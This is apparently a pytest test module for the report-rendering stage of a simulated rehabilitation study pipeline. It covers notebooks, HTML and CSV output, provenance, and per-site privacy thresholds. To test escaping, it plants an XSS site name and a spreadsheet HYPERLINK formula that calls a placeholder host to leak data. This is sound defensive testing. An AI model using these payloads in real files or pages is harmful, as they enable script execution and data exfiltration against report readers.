"""The report stage: parameters, notebooks, rendering (papermill + nbconvert) and provenance.

One small simulated study is run through clean/derive/fit and rendered once per session
(`rendered_study`, shared with test_privacy.py and test_browser.py through a module cache).
"""

from __future__ import annotations

import ast
import functools
import json
import re
import shutil
from dataclasses import dataclass, replace
from pathlib import Path

import nbformat
import pandas as pd
import pytest
import yaml

from analysis.cli import run_clean, run_derive, run_fit, run_simulate
from analysis.errors import ParameterError, ReportError
from analysis.params import read_params
from analysis.provenance import code_digest, collect_provenance, file_digests
from analysis.report import adherence_groups, comparison, inputs, render, shared, study_report
from analysis.report.render import SITE_REPORTS_FOLDER

PROJECT_ROOT = Path(__file__).resolve().parents[1]
NOTEBOOKS = PROJECT_ROOT / "notebooks"
CANARY_ID = "CANARY-ID-12345"
# Site names an attacker or a careless export might give (each site has >= 5 people).
HOSTILE_SITE = "<img src=x onerror=alert(1)>"
FORMULA_SITE = '=HYPERLINK("http://example.invalid/?leak","click")'
TWIN_SITES = ("St. Mary", "St Mary")  # one file name once slugged
# On sites big enough for reports (the smallest, site E, has groups below k: no report).
PLANTED_SITES = {"site_b": HOSTILE_SITE, "site_c": FORMULA_SITE, "site_d": TWIN_SITES[0]}
PLANTED_SITES["site_a"] = TWIN_SITES[1]
STUDY_PARTICIPANTS = 300
# Sites an attacker hopes for, as people per adherence group (the largest group first): one
# with a group big enough for a report and one below k (site E of the default study had 5, 9
# and 4), and one too small for any report (its people still count in the whole-study tables).
TINY_SITES = {"site_tiny": (6, 2), "site_micro": (3,)}
STUDY_SEED = 20261125


@dataclass(frozen=True)
class RenderedStudy:
    """A simulated study with a canary participant, run through every stage into `root`."""

    root: Path
    data: Path
    reports: Path
    params_file: Path
    canary_original_id: str
    rendered: tuple

    @property
    def html_files(self) -> list[Path]:
        return sorted(self.reports.glob("*.html")) + sorted(
            (self.reports / SITE_REPORTS_FOLDER).glob("*.html")
        )

    @property
    def csv_files(self) -> list[Path]:
        return sorted(self.reports.glob("*_files/*.csv")) + sorted(
            (self.reports / SITE_REPORTS_FOLDER).glob("*_files/*.csv")
        )

    @property
    def executed_notebooks(self) -> list[Path]:
        return sorted((self.reports / "executed").glob("*.ipynb"))

    def site_report(self, site: str, suffix: str = ".html") -> Path:
        """A site's report (suffix ".html") or its CSV folder (suffix "_files")."""
        names = render.site_report_names(inputs.study_sites(self.data / "processed"))
        return self.reports / SITE_REPORTS_FOLDER / f"{names[site]}{suffix}"


def _plant_site_names(raw: Path) -> None:
    """Give four sites the hostile, formula and colliding names (whatever their spelling)."""
    path = raw / "participants.csv"
    people = pd.read_csv(path, dtype=str, keep_default_na=False)
    spelled = people["site"].str.strip().str.lower()
    people["site"] = spelled.map(PLANTED_SITES).fillna(people["site"])
    people.to_csv(path, index=False)


def _plant_tiny_sites(raw: Path, groups: pd.Series) -> None:
    """Move a handful of participants (every row of each) into sites of their own, with
    TINY_SITES' people per adherence group (`groups`: each participant's, from a first pass)."""
    path = raw / "participants.csv"
    people = pd.read_csv(path, dtype=str, keep_default_na=False)
    ids = people["participant_id"].str.strip().str.upper()
    # From the end of the file: the canary is near its start.
    unused = groups[groups.index.isin(ids)].iloc[::-1]
    order = unused.value_counts().index
    new_site = {}
    for site, sizes in TINY_SITES.items():
        for level, size in zip(order, sizes, strict=False):
            chosen = unused[unused == level].index[:size]
            new_site.update(dict.fromkeys(chosen, site))
            unused = unused.drop(chosen)
    people["site"] = ids.map(new_site).fillna(people["site"])
    people.to_csv(path, index=False)


def _adherence_groups(raw: Path, root: Path, params, params_file: Path) -> pd.Series:
    """Each participant's adherence group, from cleaning and deriving a copy of the raw study."""
    probe = root / "probe"
    run_clean(raw, probe / "interim", None, params.clean, params_file)
    run_derive(probe / "interim", probe / "processed", params.derive)
    recovery = pd.read_parquet(probe / "processed" / "recovery.parquet")
    shutil.rmtree(probe)
    return recovery.set_index("participant_id")[params.fit.group].dropna().astype(str)


def _plant_canary(raw: Path) -> str:
    """Rename one analysed participant to the canary id in every raw file; returns the old id."""
    participants = pd.read_csv(raw / "participants.csv", dtype=str)
    original = participants["participant_id"].str.strip().str.upper().iloc[3]
    pattern = re.compile(rf"(?<![A-Za-z0-9]){re.escape(original)}(?![A-Za-z0-9])", re.IGNORECASE)
    for path in raw.iterdir():
        if path.suffix in (".csv", ".json"):
            path.write_text(pattern.sub(CANARY_ID, path.read_text()))
    return original


def _quick_params(root: Path) -> Path:
    """The project's params with a cheaper timeline (the report may have to compute it)."""
    params = yaml.safe_load((PROJECT_ROOT / "params.yaml").read_text())
    params["simulate"]["participants"] = STUDY_PARTICIPANTS
    params["timeline"]["bootstrap_samples"] = 10
    params["timeline"]["calibration_folds"] = 2
    path = root / "params.yaml"
    path.write_text(yaml.safe_dump(params, sort_keys=False))
    return path


@functools.cache
def build_rendered_study(root: Path) -> RenderedStudy:
    """Simulate, plant the canary, the hostile site names and two tiny sites, clean, derive,
    fit and render every report (once)."""
    root.mkdir(parents=True, exist_ok=True)
    params_file = _quick_params(root)
    params = read_params(params_file)
    data, reports = root / "data", root / "reports"
    run_simulate(
        data / "raw",
        STUDY_PARTICIPANTS,
        STUDY_SEED,
        params.simulate.mess_rate,
        params.simulate.follow_up_weeks,
        "csv",
        params.derive.model_dump(),
    )
    original = _plant_canary(data / "raw")
    _plant_site_names(data / "raw")
    _plant_tiny_sites(data / "raw", _adherence_groups(data / "raw", root, params, params_file))
    run_clean(data / "raw", data / "interim", None, params.clean, params_file)
    run_derive(data / "interim", data / "processed", params.derive)
    run_fit(data / "processed", data / "models", data / "metrics.json", params)
    rendered = render.render_all(
        raw=data / "raw",
        interim=data / "interim",
        processed=data / "processed",
        models=data / "models",
        reports=reports,
        params=params,
        params_file=params_file,
        notebooks=NOTEBOOKS,
    )
    return RenderedStudy(root, data, reports, params_file, original, tuple(rendered))


@pytest.fixture(scope="session")
def rendered_study(tmp_path_factory) -> RenderedStudy:
    """The shared rendered study (built on first use by any of the report test modules)."""
    return build_rendered_study(tmp_path_factory.getbasetemp() / "rendered_study")


# --- parameters -------------------------------------------------------------------------------


# --- notebooks as committed -------------------------------------------------------------------


@pytest.mark.parametrize("name", render.REPORT_NOTEBOOKS)
def test_notebook_is_committed_clean_with_one_literal_parameters_cell(name):
    notebook = nbformat.read(NOTEBOOKS / f"{name}.ipynb", as_version=4)
    nbformat.validate(notebook)
    tagged = [cell for cell in notebook.cells if "parameters" in cell.metadata.get("tags", [])]
    assert len(tagged) == 1
    for statement in ast.parse(tagged[0].source).body:
        assert isinstance(statement, ast.Assign), "only assignments in the parameters cell"
        ast.literal_eval(statement.value)  # literal defaults only
    for cell in notebook.cells:
        if cell.cell_type == "code":
            assert cell.outputs == [] and cell.execution_count is None


@pytest.mark.parametrize("name", render.REPORT_NOTEBOOKS)
def test_notebooks_hold_no_defaults_and_never_read_params_yaml(name):
    """Placeholders only: every value comes from the report stage, resolved from params.yaml."""
    placeholders = render.notebook_parameters(NOTEBOOKS / f"{name}.ipynb")
    assert set(placeholders.values()) == {None}, placeholders
    assert {"min_cell_size", "figure_dpi", "study_params", "tables_dir"} <= set(placeholders)
    notebook = nbformat.read(NOTEBOOKS / f"{name}.ipynb", as_version=4)
    code = [cell.source for cell in notebook.cells if cell.cell_type == "code"]
    first = code[1]  # the cell after the parameters cell checks them before using any
    assert "require_report_parameters(" in first
    assert first.index("require_report_parameters(") < first.index("setup_figures(")
    for source in code:
        statements = "\n".join(line.split("#")[0] for line in source.splitlines())
        assert "yaml" not in statements and "read_study_params" not in statements


def test_a_notebook_run_without_the_report_stage_stops_with_a_clear_error(tmp_path):
    with pytest.raises(ReportError, match=r"report parameter\(s\) not given: .*min_cell_size"):
        render.render_report(NOTEBOOKS / "timeline_calibration.ipynb", tmp_path / "t.html", {})


# --- rendering --------------------------------------------------------------------------------


def test_every_report_is_rendered_with_its_csvs(rendered_study):
    names = {item.name for item in rendered_study.rendered}
    assert {"study_report", "adherence_groups", "timeline_calibration"} <= names
    sites = inputs.study_sites(rendered_study.data / "processed")
    reported = inputs.sites_with_a_report(rendered_study.data / "processed", "adherence_group", 5)
    site_names = render.site_report_names(sites)
    assert {site_names[site] for site in reported} <= names and len(reported) >= 4
    for item in rendered_study.rendered:
        assert item.html.is_file() and item.executed.is_file()
        assert sorted(item.tables_dir.glob("*.csv")), f"{item.name} wrote no CSV"
    study_tables = {path.stem for path in (rendered_study.reports / "study_report_files").iterdir()}
    assert {
        "cohort_flow",
        "table_one",
        "km_curves",
        "km_at_risk",
        "km_medians",
        "logrank",
        "group_differences",
        "turnbull_curves",
        "cox",
        "cox_ph_test",
        "cox_time_varying",
        "cumulative_incidence",
        "fine_gray",
        "mixed_predictions",
        "trajectory_means",
        "methods_conventions",
        "methods_models",
        "model_notes",
        "provenance_files",
    } <= study_tables
    assert not list(rendered_study.reports.glob(".*")), "staging folders left behind"


def test_html_has_no_code_and_every_figure_embedded(rendered_study):
    for path in rendered_study.html_files:
        html = path.read_text()
        assert 'class="jp-CodeMirrorEditor' not in html, f"{path.name} shows code cells"
        assert "import matplotlib" not in html and "read_study_params" not in html, path.name
        assert re.search(r'<img[^>]+src="data:image/svg\+xml;base64,', html), path.name
        external = re.findall(r'(?:src|href)="(https?:)?//[^"]*"', html)
        assert not external, f"{path.name} loads {external[:3]}"
        assert "Traceback" not in html, path.name


def test_no_cell_printed_a_warning_or_an_error(rendered_study):
    for path in rendered_study.executed_notebooks:
        for cell in nbformat.read(path, as_version=4).cells:
            for output in cell.get("outputs", []):
                assert output.get("name") != "stderr", f"{path.name}: {output.get('text')}"
                assert output.get("output_type") != "error", path.name


def test_study_report_sections_are_present(rendered_study):
    html = (rendered_study.reports / "study_report.html").read_text()
    for heading in (
        "Cohort flow",
        "Table 1",
        "Time to recovery by adherence group",
        "Turnbull",
        "Cox proportional hazards",
        "Time-varying Cox",
        "Competing risks",
        "Pain and strength over the weeks",
        "Methods",
        "Model notes",
        "Provenance",
        "Number at risk",
        "Log-rank",
        "RMST",
        "Fine-Gray",
        "SHA-256",
    ):
        assert heading in html, heading


def test_the_methods_show_the_values_the_stages_used(rendered_study):
    """Handed in through papermill, mapping keys keep their type ({1: 7}, not {'1': 7})."""
    methods = pd.read_csv(rendered_study.reports / "study_report_files" / "methods_models.csv")
    adherence = methods.set_index("item").loc["Adherence groups", "specification"]
    assert adherence.endswith("prescribed per week by phase {1: 7, 2: 3, 3: 3}")


def test_site_report_is_restricted_to_its_site(rendered_study):
    recovery = pd.read_parquet(rendered_study.data / "processed" / "recovery.parquet")
    site = recovery["site"].value_counts().index[0]
    files = rendered_study.site_report(site, "_files")
    table_one = pd.read_csv(files / "table_one.csv")
    n_row = table_one[table_one["variable"] == "n"].iloc[0]
    in_site = recovery[recovery["site"] == site]
    assert int(n_row["Overall"]) == in_site["adherence_group"].notna().sum()


def test_rendering_twice_gives_the_same_bytes(rendered_study, tmp_path):
    """Same inputs and parameters: identical CSVs and HTML, wherever the report is written."""
    first = next(item for item in rendered_study.rendered if item.name == "study_report")
    parameters = render.report_jobs(
        raw=rendered_study.data / "raw",
        interim=rendered_study.data / "interim",
        processed=rendered_study.data / "processed",
        models=rendered_study.data / "models",
        reports=tmp_path,
        params=read_params(rendered_study.params_file),
        params_file=rendered_study.params_file,
        notebooks=NOTEBOOKS,
    )[0].parameters
    second_html = render.render_report(
        NOTEBOOKS / "study_report.ipynb",
        tmp_path / "study_report.html",
        parameters,
        tables_dir=tmp_path / "study_report_files",
    )
    first_csvs = sorted(path.name for path in first.tables_dir.glob("*.csv"))
    assert first_csvs == sorted(path.name for path in (tmp_path / "study_report_files").iterdir())
    for name in first_csvs:
        assert (first.tables_dir / name).read_bytes() == (
            tmp_path / "study_report_files" / name
        ).read_bytes(), name
    assert first.html.read_bytes() == second_html.read_bytes()


def test_the_export_is_the_two_public_passes_over_nbconvert_page(rendered_study):
    """export_html parses the page once for both passes; the bytes are those of the passes
    applied one after the other, and those the report stage wrote."""
    for report in (rendered_study.rendered[0], rendered_study.rendered[-1]):  # study, a site
        title = report.name.replace("_", " ")
        page = render.notebook_html(report.executed, title)
        both = render.with_report_structure(render.with_figure_descriptions(page))
        assert render.export_html(report.executed, title) == both, report.name
        assert report.html.read_text(encoding="utf-8") == both, report.name


def test_report_inputs_are_read_once_and_each_caller_gets_its_own_copy(
    rendered_study, tmp_path, monkeypatch
):
    data = tmp_path / "data"
    shutil.copytree(rendered_study.data, data)
    places = (data / "processed", data / "models", data / "interim" / "cleaning_report.json")
    reads = []
    monkeypatch.setattr(
        shared, "read_report_inputs", lambda *a: reads.append(a) or inputs.read_report_inputs(*a)
    )
    first = shared.report_inputs(*places)
    first.recovery.loc[:, "site"] = "changed by a notebook"
    first.models["km_medians"].drop(first.models["km_medians"].index, inplace=True)
    second = shared.report_inputs(*places)
    assert len(reads) == 1
    assert "changed by a notebook" not in set(second.recovery["site"])
    assert len(second.models["km_medians"]) > 0
    # A stage that writes again (a new file in place of the old) is read again.
    medians = places[1] / "km_medians.csv"
    text = medians.read_text()
    medians.unlink()
    medians.write_text(text)
    shared.report_inputs(*places)
    assert len(reads) == 2


def test_a_failing_cell_raises_report_error_and_replaces_nothing(tmp_path):
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [
        nbformat.v4.new_code_cell("value = 1", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("raise ValueError(f'boom {value}')"),
    ]
    notebook.metadata["kernelspec"] = {
        "name": "python3",
        "language": "python",
        "display_name": "Python 3",
    }
    path = tmp_path / "broken.ipynb"
    nbformat.write(notebook, path)
    out = tmp_path / "reports" / "broken.html"
    out.parent.mkdir()
    out.write_text("the previous, finished report")
    (tmp_path / "reports" / "broken_files").mkdir()
    (tmp_path / "reports" / "broken_files" / "old.csv").write_text("a\n1\n")
    with pytest.raises(ReportError, match=r"ValueError: boom 2"):
        render.render_report(
            path, out, {"value": 2}, tables_dir=tmp_path / "reports" / "broken_files"
        )
    assert out.read_text() == "the previous, finished report"
    assert [p.name for p in (tmp_path / "reports" / "broken_files").iterdir()] == ["old.csv"]
    assert (tmp_path / "reports" / "executed" / "broken.failed.ipynb").is_file()
    assert not (tmp_path / "reports" / "executed" / "broken.ipynb").exists()
    assert sorted(p.name for p in (tmp_path / "reports").iterdir()) == [
        "broken.html",
        "broken_files",
        "executed",
    ]


# --- provenance -------------------------------------------------------------------------------


def test_provenance_block_lists_inputs_parameters_versions_code_and_seeds(rendered_study):
    files = rendered_study.reports / "study_report_files"
    hashed = pd.read_csv(files / "provenance_files.csv")
    assert set(hashed["stage"]) == {"raw", "interim", "processed", "models", "params"}
    assert (hashed["sha256"].str.fullmatch(r"[0-9a-f]{64}")).all()
    packages = set(pd.read_csv(files / "provenance_packages.csv")["package"])
    assert {
        "pandas",
        "numpy",
        "scipy",
        "statsmodels",
        "lifelines",
        "matplotlib",
        "seaborn",
        "papermill",
        "ga-rehab",
    } <= packages
    environment = dict(pd.read_csv(files / "provenance_environment.csv", dtype=str).to_numpy())
    assert environment["simulate.seed"] == str(STUDY_SEED)
    assert environment["timeline.seed"] == "20261125"
    assert environment["code_sha256"] == code_digest()
    parameters = pd.read_csv(files / "provenance_parameters.csv")
    assert {"min_cell_size", "site", "params_file"} <= set(parameters["parameter"])
    # Paths as the notebooks' folder sees them: no machine's absolute path reaches a report.
    assert not parameters["value"].str.contains(f"'{rendered_study.root}", regex=False).any()


def test_code_digest_follows_the_source_not_the_checkout(tmp_path):
    package = tmp_path / "analysis"
    package.mkdir()
    (package / "a.py").write_text("x = 1\n")
    first = code_digest(package)
    copy = tmp_path / "elsewhere" / "analysis"
    shutil.copytree(package, copy)
    assert code_digest(copy) == first
    (copy / "a.py").write_text("x = 2\n")
    assert code_digest(copy) != first


def test_provenance_is_the_same_on_every_run(tmp_path):
    (tmp_path / "raw").mkdir()
    (tmp_path / "raw" / "participants.csv").write_text("participant_id\nP1\n")
    params = {"simulate": {"seed": 1}, "timeline": {"seed": 2}}
    first, second = (
        collect_provenance({"raw": tmp_path / "raw"}, {"a": 1}, params) for _ in range(2)
    )
    for name, table in first.tables().items():
        pd.testing.assert_frame_equal(table, second.tables()[name])


def test_file_digests_mark_missing_inputs(tmp_path):
    digests = file_digests({"models": tmp_path / "absent"})
    assert digests["sha256"].tolist() == ["missing"]


def test_cleaning_report_is_read_as_json(rendered_study):
    study = inputs.read_report_inputs(
        rendered_study.data / "processed",
        rendered_study.data / "models",
        rendered_study.data / "interim" / "cleaning_report.json",
    )
    assert study.cleaning_report == json.loads(
        (rendered_study.data / "interim" / "cleaning_report.json").read_text()
    )
    assert "km_curves" in study.models
    with pytest.raises(ParameterError, match="not in the study"):
        inputs.filter_site(study, "no_such_site", "adherence_group", 5)


def test_a_fit_without_the_report_families_leaves_the_reports_a_clear_error(rendered_study):
    """No refit in the report layer: missing site or timeline tables are a ReportError."""
    study = inputs.read_report_inputs(
        rendered_study.data / "processed",
        rendered_study.data / "models",
        rendered_study.data / "interim" / "cleaning_report.json",
    )
    without = {k: v for k, v in study.models.items() if not k.startswith(("site_", "timeline"))}
    site = sorted(study.recovery["site"].unique())[0]
    with pytest.raises(ReportError, match="no site_comparison tables for site"):
        inputs.filter_site(replace(study, models=without), site, "adherence_group", 5)
    with pytest.raises(ReportError, match=r"no timeline\.csv, timeline_model_comparison\.csv"):
        inputs.timeline_tables(without)


def test_a_report_with_another_min_cell_size_than_the_fit_is_refused(rendered_study):
    """The site's comparison was fitted leaving out groups below params.yaml's threshold; a
    report with a larger one would show models resting on groups it hides."""
    study = inputs.read_report_inputs(
        rendered_study.data / "processed",
        rendered_study.data / "models",
        rendered_study.data / "interim" / "cleaning_report.json",
    )
    scope = inputs.filter_site(study, "site_tiny", "adherence_group", 5)
    fitted = sorted(scope.models["suppressed_groups"]["group"])
    assert fitted and scope.left_out == fitted
    assert (
        comparison.left_out_groups(
            scope.models, scope.recovery, "adherence_group", 5, scope.left_out
        )
        == fitted
    )
    # A plan made with another threshold leaves out other groups.
    with pytest.raises(ReportError, match="fit and report with the same min_cell_size"):
        comparison.left_out_groups(scope.models, scope.recovery, "adherence_group", 3, [])
    whole = inputs.filter_site(study, None, "adherence_group", 5)
    largest = int(whole.recovery["adherence_group"].value_counts().max())
    grouping = {"suppressed_groups": pd.DataFrame({"group": []})}
    with pytest.raises(ReportError, match="fit and report with the same min_cell_size"):
        comparison.left_out_groups(grouping, whole.recovery, "adherence_group", largest + 1)


def test_rendering_without_the_fit_stage_fails_before_starting(tmp_path):
    with pytest.raises(ReportError, match="run `ga-rehab fit` first"):
        inputs.model_table_files(tmp_path / "models")


def test_every_figure_is_described_by_its_section():
    html = (
        "<h2>Cox proportional hazards</h2><div><img src='a.png' alt='Figure'></div>"
        "<h3>Later</h3><img src='b.png'>"
    )
    described = render.with_figure_descriptions(html)
    assert 'alt="Figure: Cox proportional hazards"' in described
    assert 'alt="Figure: Later"' in described


# --- hostile and colliding names --------------------------------------------------------------


def test_names_from_data_are_shown_as_text_never_run(rendered_study):
    from bs4 import BeautifulSoup

    hostile = rendered_study.site_report(HOSTILE_SITE)
    assert hostile.is_file()
    for path in rendered_study.html_files:
        soup = BeautifulSoup(path.read_text(), "html.parser")
        for tag in soup.find_all(True):
            handlers = [name for name in tag.attrs if name.lower().startswith("on")]
            assert handlers == [], f"{path.name}: <{tag.name} {handlers}>"
            for name in ("href", "src"):
                assert not str(tag.get(name, "")).lower().startswith("javascript:"), path.name
        images = [img for img in soup.find_all("img") if img.get("src") == "x"]
        assert images == [], f"{path.name} holds the site name as markup"
    text = BeautifulSoup(hostile.read_text(), "html.parser").get_text()
    assert f"study report, {HOSTILE_SITE}" in text  # the heading names the site, as text
    assert f"people of {HOSTILE_SITE}" in text


def test_sites_whose_names_collide_get_their_own_reports(rendered_study):
    from bs4 import BeautifulSoup

    paths = [rendered_study.site_report(site) for site in TWIN_SITES]
    assert len(set(paths)) == 2 and all(path.is_file() for path in paths)
    for site, path in zip(TWIN_SITES, paths, strict=True):
        heading = BeautifulSoup(path.read_text(), "html.parser").find("h1").get_text()
        assert heading.startswith("Gluteal-amnesia") and f"study report, {site}" in heading


def test_site_report_names_are_unique_and_stable():
    sites = ["site_A", "St. Mary", "St Mary", "St_Mary", "st_mary", "x" * 300, "<b>", "", "é"]
    names = render.site_report_names(sites)
    assert names["site_A"] == "study_report_site_A"  # a plain name is kept as it is
    assert len({name.casefold() for name in names.values()}) == len(sites)
    assert all(re.fullmatch(r"study_report_[A-Za-z0-9_-]{1,80}", name) for name in names.values())
    assert render.site_report_names(reversed(sites)) == names


def test_csv_files_for_people_hold_no_formula(rendered_study):
    import csv

    seen_formula_site = False
    for path in rendered_study.csv_files:
        with path.open(newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    seen_formula_site |= FORMULA_SITE in cell
                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                        float(cell)  # only a number may start so (-0.25)
    assert seen_formula_site, "the formula-named site is in no CSV: the test saw nothing"


def test_csv_safe_neutralises_formulas_and_keeps_numbers():
    from analysis.tables import csv_safe

    table = pd.DataFrame(
        {
            "=cmd": ["=1+1", "+SUM(1,1)", "@SUM(2,2)", "\tx", "-0.5", "-2 (-3, -1)", "ok"],
            "value": [-1.5, -2, 3, 4, 5, 6, 7],
        }
    )
    safe = csv_safe(table)
    assert list(safe.columns) == ["'=cmd", "value"]
    assert safe["'=cmd"].tolist() == [
        "'=1+1",
        "'+SUM(1,1)",
        "'@SUM(2,2)",
        "'\tx",
        "-0.5",
        "'-2 (-3, -1)",
        "ok",
    ]
    assert safe["value"].tolist() == [-1.5, -2, 3, 4, 5, 6, 7]


def _report_pages(rendered_study) -> list[Path]:
    return [item.html for item in rendered_study.rendered]


def test_every_report_has_contents_numbered_sections_and_numbered_captions(rendered_study):
    from bs4 import BeautifulSoup

    for path in _report_pages(rendered_study):
        soup = BeautifulSoup(path.read_text(), "html.parser")
        headings = soup.find_all("h2")
        numbers = [int(h.get_text(strip=True).split(".")[0]) for h in headings]
        assert numbers == list(range(1, len(headings) + 1)), path.name
        links = [a["href"] for a in soup.select("nav.toc a")]
        assert links == [f"#{h['id']}" for h in headings], path.name
        for kind in ("table", "figure"):
            captions = [p.get_text(strip=True) for p in soup.select(f"p.{kind}-caption")]
            label = kind.capitalize()
            assert [c.split(".")[0] for c in captions] == [
                f"{label} {i}" for i in range(1, len(captions) + 1)
            ], path.name
        assert len(soup.find_all("img")) == len(soup.select("p.figure-caption")), path.name
        # Prose says "fewer than 5", never the "<k" of a table cell.
        for paragraph in soup.select("p, li"):
            assert not re.search(r"<\s*\d|<k", paragraph.get_text()), paragraph.get_text()


def test_provenance_is_a_collapsed_block_without_absolute_paths_or_python_reprs(rendered_study):
    from bs4 import BeautifulSoup

    for path in _report_pages(rendered_study):
        soup = BeautifulSoup(path.read_text(), "html.parser")
        details = soup.find_all("details")
        assert len(details) == 1 and not details[0].has_attr("open"), path.name
        assert (
            details[0].find_previous("h2").get_text(strip=True).rstrip("¶").endswith("Provenance")
        )
        text = details[0].get_text(" ")
        assert str(rendered_study.root) not in soup.get_text(), path.name
        assert not re.search(r"'|\bNone\b|\bTrue\b|\bFalse\b|\.\./", text), path.name
        assert text.count("built-in synthetic study") == 1, path.name
        assert "truth.json" not in text and "injected_defects" not in text, path.name


def test_study_report_opens_with_key_findings_and_ends_with_strobe_then_provenance(
    rendered_study,
):
    from bs4 import BeautifulSoup

    soup = BeautifulSoup((rendered_study.reports / "study_report.html").read_text(), "html.parser")
    headings = [h.get_text(strip=True).rstrip("¶") for h in soup.find_all("h2")]
    assert headings[0] == "1. Key findings"
    assert headings[-2:] == [
        f"{len(headings) - 1}. Reporting checklist: STROBE items 13-17",
        f"{len(headings)}. Provenance",
    ]
    heading_cell = soup.find("h2").find_parent(class_="jp-Cell")
    findings = heading_cell.find_next_sibling(class_="jp-Cell").get_text(" ")
    for unit in ("per 10 percentage points of weekly adherence", "per hour of daily sitting"):
        assert unit in findings
    assert "95% CI" in findings and "weeks" in findings
    strobe = next(t for t in soup.find_all("table") if "STROBE item" in t.get_text())
    items = [row.find("td").get_text() for row in strobe.find_all("tr")[1:]]
    assert items == ["13", "14", "15", "16", "17"]
    assert "not in this report" not in strobe.get_text()
    assert all(row.find_all("a") for row in strobe.find_all("tr")[1:])


def test_adherence_report_shows_its_cut_offs_and_dose_response_not_the_study_comparison(
    rendered_study,
):
    text = (rendered_study.reports / "adherence_groups.html").read_text()
    assert "Group definitions" in text and "Dose-response" in text
    assert "Moving each cut-off on its own" in text
    assert "The groups with each cut-off moved on its own" in text
    for repeated in ("Number at risk", "Log-rank test across groups", "RMST difference"):
        assert repeated not in text


def test_cut_off_sensitivity_shows_no_group_size_and_no_estimate_of_a_small_group():
    """Two groupings' sizes differ by the people between the cut-offs (3 here): no size is
    shown, and a group of fewer than k people shows no median or hazard ratio."""
    table = pd.DataFrame(
        {
            "grouping": ["as set", "as set", "moved", "moved"],
            "cutoffs": ["0.5", "0.5", "0.55", "0.55"],
            "group": ["low", "high", "low", "high"],
            "n": [40, 4, 37, 7],
            "median": [150.0, 90.0, 151.0, 95.0],
            "median_conf_low": [140.0, 80.0, 141.0, 85.0],
            "median_conf_high": [160.0, 100.0, 161.0, 110.0],
            "hazard_ratio": [1.0, 2.0, 1.0, 1.8],
            "hr_conf_low": [None, 1.1, None, 1.2],
            "hr_conf_high": [None, 3.0, None, 2.7],
        }
    )
    shown = adherence_groups.sensitivity_for_report(table, 5)
    assert "n" not in shown.columns
    small = shown.iloc[1]
    assert small["median weeks (95% CI)"] == "fewer than 5 people"
    assert small["hazard ratio vs first group (95% CI)"] == ""
    assert shown.iloc[3]["hazard ratio vs first group (95% CI)"] == "1.80 (1.20 to 2.70)"
    assert shown.iloc[0]["hazard ratio vs first group (95% CI)"] == "reference"
    sentence = adherence_groups.sensitivity_sentence(table, 5)
    assert "high 1.80 to 1.80" in sentence and "2.00" not in sentence


def test_a_groups_fitted_line_stops_before_its_first_week_with_few_people_observed():
    """The mixed models' lines: a group's late weeks hold the few people not yet recovered,
    and its line there follows them; it is drawn up to the last week before fewer than min_n."""
    weeks = range(6)
    observed = {  # people observed per week: low dips below 3 at week 2, then recovers to 3
        ("pain", "low"): [9, 5, 2, 3, 3, 1],
        ("pain", "high"): [9, 8, 7, 6, 5, 4],
        ("strength", "low"): [9, 9, 9, 9, 9, 9],
    }
    counts = pd.DataFrame(
        [
            {"outcome": outcome, "week": week, "group": group, "n": n}
            for (outcome, group), ns in observed.items()
            for week, n in zip(weeks, ns, strict=True)
        ]
    )
    predictions = counts.rename(columns={"group": "adherence_group"}).assign(
        fitted=lambda frame: frame["week"] * 1.5
    )[["week", "adherence_group", "outcome", "fitted"]]
    models = {"mixed_predictions": predictions, "mixed_fitted_vs_observed": counts}
    shown = study_report.mixed_predictions_for_report(models, "adherence_group", 3)
    last = shown.groupby(["outcome", "adherence_group"])["week"].max().to_dict()
    assert last == {("pain", "low"): 1, ("pain", "high"): 5, ("strength", "low"): 5}
    assert shown.groupby(["outcome", "adherence_group"])["week"].min().eq(0).all()
    assert list(shown.columns) == ["week", "adherence_group", "outcome", "fitted"]
    none = study_report.mixed_predictions_for_report({}, "adherence_group", 3)
    assert none.empty and list(none.columns) == list(shown.columns)
